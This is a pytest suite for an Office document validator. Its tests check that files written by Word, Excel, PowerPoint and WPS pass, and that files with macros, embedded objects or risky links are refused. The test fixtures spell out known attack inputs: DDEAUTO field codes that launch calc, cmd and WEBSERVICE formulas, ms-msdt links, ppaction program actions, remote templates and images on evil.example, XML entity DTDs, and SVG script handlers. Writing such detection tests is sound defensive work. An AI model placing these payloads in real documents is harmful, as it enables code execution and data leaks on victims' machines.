"""Office documents pass with the parts that Word, Excel, PowerPoint and WPS write, and with no other."""

import io

import docx
import pptx
import pytest
import xlsxwriter
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE

from anliku.media.documents import document_fault
from tests.unit.media.documents.packages_made import (
    OPEN,
    PNG,
    RELATED,
    SHEET,
    STRICT,
    WORD,
    Link,
    links,
    office,
    office_files,
    zipped,
)

MICROSOFT = "http://schemas.microsoft.com/office"
VBA = "application/vnd.ms-office.vbaProject"
XML = "application/xml"


def a_word_document() -> bytes:
    """Return what python-docx writes."""
    target, made = io.BytesIO(), docx.Document()
    made.add_heading("甲村食堂")
    made.add_table(2, 2)
    made.save(target)
    return target.getvalue()


def a_workbook() -> bytes:
    """Return a workbook with formulas, a link, a comment, a table and a chart."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet("表 一")
        sheet.write_formula(0, 0, '=SUM(\'表 一\'!B1:B9)&IF(B1>0,"是|否","")')
        sheet.write_formula(1, 0, "=_xlfn.XLOOKUP(1,B1:B9,C1:C9)")
        sheet.write_url(2, 0, "https://example.com/")
        sheet.write_comment(3, 0, "批注")
        sheet.add_table("E1:F3")
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "='表 一'!$B$1:$B$9"})
        sheet.insert_chart("H1", chart)
    return target.getvalue()


def slides() -> bytes:
    """Return slides with a chart, behind which is a workbook."""
    target, made = io.BytesIO(), pptx.Presentation()
    slide = made.slides.add_slide(made.slide_layouts[0])
    data = CategoryChartData()  # type: ignore[no-untyped-call]
    data.categories = ["甲", "乙"]
    data.add_series("户", (1, 2))  # type: ignore[no-untyped-call]
    slide.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, 0, 0, 99, 99, data)
    made.save(target)
    return target.getvalue()


def test_what_programs_write_passes() -> None:
    """Documents of python-docx, XlsxWriter and python-pptx pass, under the endings of WPS too."""
    for names, data in (
        (("一.docx", "一.wps", "一.doc"), a_word_document()),
        (("一.xlsx", "一.et", "一.xls"), a_workbook()),
        (("一.pptx", "一.dps", "一.ppt"), slides()),
    ):
        assert [None] * 3 == [document_fault(name, data) for name in names]
        assert document_fault("一.odt", data) is not None


def test_a_document_of_another_kind_is_refused() -> None:
    """A workbook called .docx is no Word document, nor is one with macros allowed."""
    assert "不是 DOCX" in refused("一.docx", a_workbook())
    macros = zipped(
        {
            name: str(content).replace("document.main", "document.macroEnabled.main")
            for name, content in office_files("docx").items()
        }
    )
    assert "word/document.xml" in refused("一.docx", macros)


@pytest.mark.parametrize(
    ("name", "kind", "content"),
    [
        ("word/vbaProject.bin", VBA, b"x"),
        ("word/fine.bin", VBA, b"x"),
        ("word/media/image1.png", "image/png", b"MZ program"),
        ("word/media/image2.png", "image/png", b"<html>"),
        ("word/embeddings/a.exe", "application/octet-stream", b"MZ"),
        ("word/embeddings/oleObject1.bin", f"{OPEN}.oleObject", b"x"),
        ("word/embeddings/a.xlsx", f"{OPEN}.spreadsheetml.sheet", b"x"),
        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<a/>"),
        ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<a/>"),
        ("word/afchunk.htm", "text/html", "<html/>"),
        ("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", "<a/>"),
        ("word/nobody.knows", "", b"x"),
    ],
)
def test_a_part_of_an_unknown_kind_is_refused_by_name(
    name: str, kind: str, content: bytes | str
) -> None:
    """Parts are judged by their type and content, not by what they are called."""
    assert name[-12:] in refused("一.docx", office("docx", {name: (kind, content)}))


@pytest.mark.parametrize(
    "link",
    [
        (f"{MICROSOFT}/2006/relationships/vbaProject", "media/a.xml", ""),
        (f"{MICROSOFT}/2006/relationships/ui/extensibility", "customUI/a.xml", ""),
        (f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI14.xml", ""),
        (f"{MICROSOFT}/2006/relationships/keyMapCustomizations", "a.xml", ""),
        (f"{MICROSOFT}/2006/relationships/xlMacrosheet", "a.xml", ""),
        (f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "a.xml", ""),
        (f"{RELATED}/oleObject", "embeddings/a.bin", ""),
        (f"{STRICT}/oleObject", "embeddings/a.bin", ""),
        (f"{RELATED}/package", "embeddings/a.docx", ""),
        (f"{RELATED}/control", "a.xml", ""),
        (f"{RELATED}/aFChunk", "a.xml", ""),
        (f"{RELATED}/subDocument", "a.xml", ""),
        (f"{RELATED}/externalLink", "a.xml", ""),
        (f"{RELATED}/connections", "a.xml", ""),
        ("http://evil.example/relationships/image", "a.png", ""),
        (f"{RELATED}/attachedTemplate", "https://evil.example/a.dotm", "External"),
        (f"{RELATED}/attachedTemplate", r"\\evil.example\a.dotm", "External"),
        (f"{RELATED}/attachedTemplate", "file://evil.example/a.dotm", "External"),
        (f"{RELATED}/attachedTemplate", "evil.dotm", "External"),
        (f"{STRICT}/attachedTemplate", "http://evil.example/a", "external"),
        (f"{RELATED}/image", "https://evil.example/a.png", "External"),
        (f"{RELATED}/image", "https://evil.example/a.png", ""),
        (f"{RELATED}/image", "//evil.example/a.png", ""),
        (f"{RELATED}/oleObject", "file:///C:/a", "External"),
        (f"{RELATED}/frame", "https://evil.example/", "External"),
        (f"{RELATED}/subDocument", "a.docx", "External"),
        (f"{RELATED}/externalLinkPath", "a.xlsx", "External"),
        (f"{RELATED}/hyperlink", "javascript:alert(1)", "External"),
        (f"{RELATED}/hyperlink", "JavaScript%3Aalert(1)", "External"),
        (f"{RELATED}/hyperlink", r"\\evil.example\a", "External"),
        (f"{RELATED}/hyperlink", "file://evil.example/a", "External"),
        (f"{RELATED}/hyperlink", "ms-msdt:/id", "External"),
        (f"{RELATED}/hyperlink", "search-ms:a", "External"),
        (f"{RELATED}/hyperlink", "a.exe", "External"),
    ],
)
def test_a_link_that_loads_or_leads_away_is_refused(link: Link) -> None:
    """Only what is on the list is linked with, and only a click may lead out, to the web."""
    assert refused("一.docx", office("docx", related=(link,)))


@pytest.mark.parametrize(
    "link",
    [
        (f"{RELATED}/hyperlink", "https://example.com/甲?a=1&b=2#c", "External"),
        (f"{RELATED}/hyperlink", "mailto:a@example.com", "External"),
        (f"{RELATED}/hyperlink", "附件1.docx", "External"),
        (f"{RELATED}/hyperlink", "www.example.com", "External"),
        (f"{STRICT}/hyperlink", "#_Toc1", "External"),
        (f"{RELATED}/attachedTemplate", "Normal.dotm", "External"),
        (f"{RELATED}/attachedTemplate", r"file:///C:\Users\li\公文.dotx", "External"),
        (f"{RELATED}/theme", "theme/theme1.xml", ""),
        (f"{MICROSOFT}/2016/09/relationships/commentsIds", "commentsIds.xml", ""),
        ("http://www.wps.cn/officeDocument/2020/cellImage", "cellimages.xml", ""),
    ],
)
def test_an_ordinary_link_passes(link: Link) -> None:
    """Hyperlinks to the web, the author's own template, parts of later versions."""
    assert document_fault("一.docx", office("docx", related=(link,))) is None


def _field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return f'{begin}{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


NESTED = _field("QUOTE 68 68 69")
FIELDS = [
    (_field('DDEAUTO c:\\\\windows "/k calc"'), False),
    (_field(" D", "DE", "AUTO a"), False),
    (_field("dde a b"), False),
    ('<w:fldSimple w:instr="DDEAUTO a b"/>', False),
    (_field(NESTED.join(("</w:instrText></w:r>", "<w:r><w:instrText>AUTO a"))), False),
    (_field('INCLUDEPICTURE "https://evil.example/a.png" \\d'), False),
    (_field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"'), False),
    (_field('INCLUDETEXT "a.docx"'), False),
    (_field('INCLUDEPICTURE "C:\\\\a.png" "https://evil.example/a.png"'), False),
    (_field('HYPERLINK \\n "ms-msdt:/id"'), False),
    (_field('HYPERLINK "https://example.com/" "file://evil.example/a"'), False),
    (_field('HYPERLINK "ms-msdt:/id"'), False),
    (_field("LINK Word.Document a"), False),
    (_field("MACROBUTTON Run a"), False),
    ("<w:r><w:instrText>DDEAUTO a</w:instrText></w:r>", False),
    ("<w:p><!--instrText--></w:p>", True),
    (_field(" PAGE "), True),
    (_field(' TOC \\o "1-3" \\h \\z \\u '), True),
    (_field(' HYPERLINK \\l "_Toc1" '), True),
    (_field(' HYPERLINK "https://example.com/" \\o "甲" '), True),
    (
        _field(' INCLUDEPICTURE "C:\\\\Users\\\\li\\\\ksohtml\\\\wps1.png" \\* MERGEFORMATINET '),
        True,
    ),
    (_field(" IF ", "1=1 甲 乙"), True),
    (_field(" ADDIN ZOTERO_ITEM {} "), True),
]


@pytest.mark.parametrize(("body", "passes"), FIELDS)
def test_fields_of_word_are_judged_by_name(body: str, *, passes: bool) -> None:
    """A field that fetches or runs is refused, in one piece or many, in a field of its own or within."""
    data = office("docx", main=f"<w:document {WORD}><w:p>{body}</w:p></w:document>")
    assert passes is (document_fault("一.docx", data) is None)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_another_encoding_hides_nothing(encoding: str) -> None:
    """A field is found whatever the part is encoded in."""
    body = f"<w:document {WORD}><w:p>{_field('DDEAUTO a')}</w:p></w:document>".encode(encoding)
    files = {**office_files("docx"), "word/document.xml": body}
    assert "DDEAUTO" in refused("一.docx", zipped(files))


@pytest.mark.parametrize(
    ("formula", "passes"),
    [
        ("cmd|'/c calc'!A0", False),
        ("'cmd'|'/c calc'!A0", False),
        ('WEBSERVICE("https://evil.example/")', False),
        ("_xlfn.WEBSERVICE(A1)", False),
        ("_xlfn.IMAGE(A1)", False),
        ('RTD("a",,"b")', False),
        ('CALL("a","b","c")', False),
        ("'C:\\[a.xlsx]表'!A1", False),
        ("[0]!Auto_Open()", False),
        ('"["&WEBSERVICE("a")&"]"', False),
        ("表1['[]&WEBSERVICE(A1)&表1['[]", False),
        ("'['&WEBSERVICE(A1)&']'", False),
        ("SUM(表1[金额(元)])", True),
        ("表1[[#This Row],[单价(元/户)]]*2", True),
        ("_xlfn.LAMBDA(_xlpm.f,_xlpm.f(1))", True),
        ("'表|一'!A1+1", True),
        ('CONCATENATE("a|b(","c")', True),
        ('_xlfn.DISPIMG("ID_1",1)', True),
        ("SUM('2022年'!A:A)", True),
    ],
)
def test_formulas_of_excel_call_only_what_computes(formula: str, *, passes: bool) -> None:
    """A formula may not call another program, a server or a function that nobody knows."""
    written = formula.replace("&", "&amp;").replace("<", "&lt;")
    sheet = f"<worksheet {SHEET}><c><f>{written}</f></c></worksheet>"
    part = {"xl/worksheets/sheet1.xml": (f"{OPEN}.spreadsheetml.worksheet+xml", sheet)}
    assert passes is (document_fault("一.xlsx", office("xlsx", part)) is None)


@pytest.mark.parametrize(
    ("action", "passes"),
    [
        ("ppaction://program?C:%5Ccalc.exe", False),
        ("ppaction://macro?name=a", False),
        ("&#112;paction://program", False),
        ("ppaction://hlinksldjump", True),
        ("ppaction://hlinkshowjump?jump=nextslide", True),
    ],
)
def test_actions_of_slides_only_turn_pages(action: str, *, passes: bool) -> None:
    """A click on a slide starts no program."""
    slide = f'<p:sld xmlns:p="urn:p" xmlns:a="urn:a"><a:hlinkClick action="{action}"/></p:sld>'
    part = {"ppt/slides/slide1.xml": (f"{OPEN}.presentationml.slide+xml", slide)}
    assert passes is (document_fault("一.pptx", office("pptx", part)) is None)


def test_the_workbook_behind_a_chart_is_judged_too() -> None:
    """It passes if it would by itself, one level deep."""
    chart = ("word/charts/chart1.xml", f"{OPEN}.drawingml.chart+xml", '<c:chart xmlns:c="urn:c"/>')
    rels = links((f"{RELATED}/package", "../embeddings/a.xlsx", ""))
    bad = office("xlsx", {"xl/vbaProject.bin": (VBA, b"x")})
    deeper = office("xlsx", {"xl/embeddings/a.xlsx": (f"{OPEN}.spreadsheetml.sheet", b"x")})
    for workbook, passes in ((a_workbook(), True), (bad, False), (deeper, False), (b"MZ", False)):
        files = office_files(
            "docx",
            {
                chart[0]: chart[1:],
                "word/embeddings/a.xlsx": (f"{OPEN}.spreadsheetml.sheet", workbook),
            },
        )
        files["word/charts/_rels/chart1.xml.rels"] = rels
        assert passes is (document_fault("一.docx", zipped(files)) is None)


@pytest.mark.parametrize(
    "xml",
    [
        '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>',
        '<a src="https://evil.example/a.png"/>',
        '<v:imagedata xmlns:v="urn:v" src="file://evil.example/a"/>',
        '<a href="javascript:alert(1)"/>',
        f"<w:settings {WORD}><w:mailMerge/></w:settings>",
        "<a" + "<b>" * 3,
    ],
)
def test_hostile_xml_is_refused_in_any_part(xml: str) -> None:
    """DTDs, addresses of pictures, and what is not well-formed."""
    if xml.startswith("<a<"):
        xml = f"<a href='#'>{'<b>' * 300}"
    assert refused("一.docx", office("docx", {"word/settings.xml": (XML, xml)}))


def test_pictures_of_all_usual_kinds_pass() -> None:
    """PNG, EMF and WMF are looked at by their first bytes."""
    heads = {"png": PNG, "emf": b"\x01\0\0\0rest", "wmf": b"\xd7\xcd\xc6\x9arest"}
    parts = {f"word/media/a.{kind}": (f"image/{kind}", head) for kind, head in heads.items()}
    assert document_fault("一.docx", office("docx", parts)) is None


def refused(name: str, data: bytes) -> str:
    """Return why a document is refused."""
    fault = document_fault(name, data)
    assert fault is not None
    return fault[0]


@pytest.mark.parametrize(
    ("inner", "passes"),
    [
        ('<path d="M0 0"/><use href="#a"/>', True),
        ("<script>alert(1)</script>", False),
        ("<foreignObject/>", False),
        ('<g onload="alert(1)"/>', False),
        ('<image href="https://evil.example/a.png"/>', False),
        ('<use href="file://evil.example/a"/>', False),
        ('<a href="javascript:alert(1)"/>', False),
    ],
)
def test_drawings_in_svg_are_judged(inner: str, *, passes: bool) -> None:
    """A drawing within a document runs nothing and fetches nothing."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'
    data = office("docx", {"word/media/a.svg": ("image/svg+xml", svg)})
    assert passes is (document_fault("一.docx", data) is None)
